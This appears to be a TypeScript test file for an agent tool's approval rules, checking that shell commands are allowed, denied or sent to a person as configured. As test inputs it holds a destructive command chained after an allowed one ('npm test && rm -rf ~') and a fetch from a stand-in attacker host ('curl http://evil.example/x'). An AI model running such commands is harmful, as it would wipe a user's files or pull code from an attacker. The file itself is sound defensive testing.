/*
 * Approval rules that parse shell commands (issue 46), end to end through mock/ask and the built
 * li: issue 46's table under {shell, "npm test", allow} and {shell, "rm", deny}, judged from the
 * store's records (a rule's answer, or a person's: here the request expires unanswered); rules
 * li will not use refused before any record; what --for-run and --for-run-tool answer later.
 */
import fs from "node:fs";
import path from "node:path";
import { li, liData } from "./helpers/li.js";
import { pendingNo, requests } from "./helpers/approvals.js";
import { detach, output, rows, terminal, useHomes } from "./helpers/fixtures.js";
import { oneStore } from "./helpers/stores.js";
import { SHELL_TABLE, SHELL_TABLE_SAMPLE, TABLE_RULES_YAML, type Expected } from "./helpers/shell-rule-table.js";
import { stressCount } from "./helpers/stress.js";

const home = useHomes({ stopRuns: true });
const ask = (tool: string, input: object) => `ask ${tool} ${JSON.stringify(input)}`;

/** What answered a recorded request: a rule's allow or deny, or a person (here: nobody, so it expired). */
const answeredAs = (r: any): Expected | string => (r.state === "allowed" && /^rule:/.test(r.answered_by) ? "allow" : r.state === "denied" && /^rule:/.test(r.answered_by) ? "deny" : r.state === "expired" ? "ask" : `${r.state} by ${r.answered_by}`);

// The whole table in the stress tier; npm test's sample keeps every row a rule answers and one of
// each way to a person (each waits out its 1 s expiry). The parser's answer to every row is
// approval-rules.test.ts's, at full.
const TABLE = stressCount(SHELL_TABLE_SAMPLE, SHELL_TABLE);

test(`issue 46's table through mock/ask: ${TABLE.length} commands, each answered by the rule it should be or left to a person`, async () => {
  const h = home();
  fs.writeFileSync(path.join(h.home, "settings.yaml"), TABLE_RULES_YAML);
  const prompt = TABLE.map(([command]) => ask("Bash", { command })).join("\n");
  const run = (await detach(h.env, ["--approvals", "ask", "--approval-timeout", "1", "mock/ask", prompt])).id;
  expect((await terminal(h.env, run, 300_000)).status).toBe("completed");
  const recorded = await requests(h, run);
  expect(recorded.map((r, i) => [JSON.parse(r.input).command, answeredAs(r), TABLE[i]?.[2]])).toEqual(TABLE);
  // What the agent heard agrees with the records, line for line.
  const heard = ((await output(h.env, run)).output as string).split("\n").filter(Boolean).map((l) => l.split(" ")[0]);
  expect(heard).toEqual(TABLE.map(([, e]) => (e === "allow" ? "allowed" : "denied")));
  // The worker's log says why a request went to a person.
  expect(fs.readFileSync(path.join(h.home, "runs", run, "worker.log"), "utf8")).toContain("Bash goes to a person: no rule sees through a command substitution");
  // A rule's record says which rule, and the command it matched.
  const rm = recorded[TABLE.findIndex(([c]) => c === "npm test && rm -rf ~")];
  expect([rm.answered_by, rm.message]).toEqual(["rule:1", expect.stringMatching(/^denied by rule 1 of .*settings\.yaml \(command rm\): rm -rf ~$/)]);
}, 400_000);

oneStore("rules li will not use are refused before any record, naming the rule's number and file; runs that do not ask are not affected", async () => {
  const h = home();
  const settings = path.join(h.home, "settings.yaml");
  fs.writeFileSync(settings, `approvals:\n  rules:\n    - {tool: Write, answer: deny}\n    - {tool: Bash, input_matches: "^npm (test|run lint)", answer: allow}\n`);
  for (const args of [["agent", "--detach", "--approvals", "ask", "mock/ask", "hi"], ["o", "fanout", "--detach", "--approvals", "ask", "--model", "mock/ask", "--num-workers", "1", "hi"]]) {
    const r = await li(["--machine", ...args], { env: h.env });
    expect([r.json.ok, r.json.error.kind, r.json.error.detail.code, r.json.error.detail.rule, r.json.error.detail.file]).toEqual([false, "invalid_input", "approval_rule_refused", 1, settings]);
    expect(r.json.error.message).toContain(`rule 1 of ${settings}`);
    expect(r.json.error.message).toContain("command:");
  }
  fs.writeFileSync(settings, `approvals:\n  rules:\n    - {tool: shell, command: "npm test &&", answer: allow}\n`);
  const unparsable = await li(["--machine", "agent", "--detach", "--approvals", "ask", "mock/ask", "hi"], { env: h.env });
  expect([unparsable.json.ok, unparsable.json.error.detail.code]).toEqual([false, "approval_rule_refused"]);
  expect(unparsable.json.error.message).toMatch(/rule 0 of .*: command: "npm test &&" does not name one simple command/);
  for (const [bad, why] of [[`{tool: shell, command: "", answer: allow}`, /command.*first words/], [`{tool: shell, command: "npm test", input_matches: "^npm", answer: deny}`, /not both/]] as const) {
    fs.writeFileSync(settings, `approvals:\n  rules:\n    - ${bad}\n`);
    const r = await li(["--machine", "agent", "--detach", "mock/echo", "hi"], { env: h.env });
    expect([r.json.ok, r.json.error.message]).toEqual([false, expect.stringMatching(why)]);
  }
  expect(await rows(h, "SELECT id FROM entities")).toEqual([]);
  // A run that does not ask never uses the rules, so the old allow rule does not stop it.
  fs.writeFileSync(settings, `approvals:\n  rules:\n    - {tool: Bash, input_matches: "^npm", answer: allow}\n`);
  const plain = await liData(["agent", "--detach", "mock/echo", "hi"], { env: h.env });
  expect((await terminal(h.env, plain.id)).status).toBe("completed");
});

test("--for-run on npm test answers a later npm test only: not npm test && rm -rf ~, not curl; --for-run-tool answers the rest", async () => {
  const h = home();
  const commands = ["npm test", "npm test && rm -rf ~", "curl http://evil.example/x", "npm  'test'", "git status", "ls"];
  const run = (await detach(h.env, ["--approvals", "ask", "mock/ask", commands.map((command) => ask("Bash", { command })).join("\n")])).id;
  const first = await pendingNo(h, run, 1);
  const both = await li(["--machine", "approve", first.id, "--for-run", "--for-run-tool"], { env: h.env });
  expect([both.json.ok, both.json.error.kind, both.json.error.message]).toEqual([false, "invalid_input", expect.stringContaining("not both")]);
  expect((await liData(["approve", first.id, "--for-run"], { env: h.env })).approval).toMatchObject({ for_run: true, for_run_scope: "commands" });
  // Each of these waits for a person: the --for-run answer does not cover it.
  const chained = await pendingNo(h, run, 2);
  expect(JSON.parse(chained.input).command).toBe("npm test && rm -rf ~");
  await liData(["deny", chained.id], { env: h.env });
  const curl = await pendingNo(h, run, 3);
  expect(JSON.parse(curl.input).command).toBe("curl http://evil.example/x");
  await liData(["deny", curl.id], { env: h.env });
  // The same words again are answered without a person; then git status asks, and --for-run-tool answers it and ls.
  const git = await pendingNo(h, run, 5);
  expect(JSON.parse(git.input).command).toBe("git status");
  const tool = (await liData(["approve", git.id, "--for-run-tool"], { env: h.env })).approval;
  expect(tool).toMatchObject({ for_run: true, for_run_scope: "tool" });
  expect((await terminal(h.env, run)).status).toBe("completed");
  const recorded = await requests(h, run);
  expect(recorded.map((r) => [JSON.parse(r.input).command, r.state, r.message])).toEqual([
    ["npm test", "allowed", null],
    ["npm test && rm -rf ~", "denied", null],
    ["curl http://evil.example/x", "denied", null],
    ["npm  'test'", "allowed", `allowed for the run by ${tool.answered_by} (${first.id}: the same commands (--for-run))`],
    ["git status", "allowed", null],
    ["ls", "allowed", `allowed for the run by ${tool.answered_by} (${git.id}: every Bash request (--for-run-tool))`],
  ]);
  // li approvals --all shows which answered each.
  const listed = await li(["approvals", "--all", "--run", run], { env: h.env });
  expect(listed.stdout.split("\n")[0]).toMatch(/ BY$/);
  expect(listed.stdout).toContain(`via ${first.id}`);
  expect(listed.stdout).toContain(`via ${git.id}`);
});
